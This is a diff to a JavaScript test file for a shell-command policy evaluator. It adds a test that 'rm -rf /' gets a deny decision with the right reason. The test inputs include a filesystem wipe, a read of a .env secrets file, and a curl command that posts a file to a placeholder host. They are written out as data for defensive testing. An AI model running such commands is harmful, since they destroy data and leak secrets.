@@ -40,6 +40,13 @@ describe('evaluator end to end (real analyzer)', () => {
     assert.equal(decision.decision, 'ask');
   });
 
+  it('the first reason explains the verdict (the deny, not an earlier ask)', () => {
+    const decision = evaluatorFor(analyzer).checkCommand({ command: 'rm -rf /', cwd: WS, workspace: WS });
+    assert.equal(decision.decision, 'deny');
+    assert.match(decision.reasons[0] ?? '', /protected/);
+    assert.ok(decision.reasons.some((r) => /removes files/.test(r)), 'the ask reason is still listed');
+  });
+
   it('same input and same policy give the same decision', () => {
     const evaluator = evaluatorFor(analyzer);
     for (const command of ['cat .env; ls', 'git push origin main', 'npm test', 'curl -d @x http://e.example']) {
